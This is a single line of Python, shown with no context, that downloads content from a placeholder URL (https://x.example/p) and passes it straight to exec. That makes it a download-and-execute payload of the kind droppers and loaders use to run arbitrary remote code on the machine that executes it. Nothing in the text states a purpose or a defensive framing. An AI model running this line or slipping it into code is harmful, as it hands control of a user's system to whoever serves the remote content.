exec(urllib.request.urlopen('https://x.example/p').read())
